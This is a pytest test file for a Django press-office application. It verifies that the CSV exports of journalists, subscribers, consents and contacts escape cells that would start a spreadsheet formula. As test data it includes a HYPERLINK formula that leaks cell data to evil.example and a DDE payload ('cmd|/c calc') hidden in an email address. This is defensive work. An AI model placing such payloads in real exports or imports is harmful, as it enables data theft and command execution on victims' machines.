"""The admin's CSV exports (contacts, journalists, subscribers, consent log) cannot run as
formulas in a spreadsheet: a cell that starts like one is prefixed with `'` (OWASP's advice on
CSV injection). What a name, an outlet, a note, an address or a consent text holds is typed by
others (an import, a sign-up), and the press office opens the export in Excel."""

import csv
import io

import pytest
from django.urls import reverse

from press.distribution.models import Journalist
from press.models import PressContact
from press.spreadsheets import spreadsheet_cell_neutralise
from press.subscriptions.models import ConsentRecord, Subscriber

FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Details")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+49 211 89-93131", "'+49 211 89-93131"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("Anna Berg", "Anna Berg"),
        ("a=b", "a=b"),
        (None, ""),
        (["=a", "b"], "'=a, b"),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_quote(value, cell):
    assert spreadsheet_cell_neutralise(value) == cell


def exported_rows(admin_client, url_name: str, **query) -> list[list[str]]:
    response = admin_client.get(reverse(url_name), {"export": "csv", **query})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def no_cell_starts_a_formula(rows: list[list[str]]) -> bool:
    return not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


@pytest.mark.django_db
def test_the_journalists_export_runs_no_formula(admin_client):
    Journalist.objects.create(
        name=FORMULA, outlet="+Rheinische Post", email="anna@rp.example", notes="@Redaktion"
    )

    rows = exported_rows(admin_client, "press_journalists:index")

    assert no_cell_starts_a_formula(rows)
    assert rows[1][:3] == ["'" + FORMULA, "'+Rheinische Post", "anna@rp.example"]
    assert rows[1][-1] == "'@Redaktion"


@pytest.mark.django_db
def test_the_subscribers_and_consent_exports_run_no_formula(admin_client):
    # "=cmd|'/c calc'!A0@example.org" is a valid address: the local part may hold = | ' !.
    address = "=cmd|'/c calc'!A0@example.org"
    subscriber = Subscriber.objects.create(email=address, state=Subscriber.CONFIRMED)
    ConsentRecord.objects.create(
        subscriber=subscriber, consent_text="-1+1 Ich willige ein", channel=ConsentRecord.API
    )

    subscribers = exported_rows(admin_client, "press_subscribers:index")
    consents = exported_rows(admin_client, "press_consents:index")

    assert no_cell_starts_a_formula(subscribers) and no_cell_starts_a_formula(consents)
    assert subscribers[1][0] == "'" + address
    assert consents[1][:3] == ["'" + address, "api", "'-1+1 Ich willige ein"]


@pytest.mark.django_db
def test_the_contacts_export_shows_phone_numbers_as_text(admin_client):
    PressContact.objects.create(name="@Pressestelle", email="presse@example.org", phone="+49 211 1")

    rows = exported_rows(admin_client, "press_presscontact_modeladmin_index")

    assert no_cell_starts_a_formula(rows)
    assert rows[1] == ["'@Pressestelle", "presse@example.org", "'+49 211 1"]
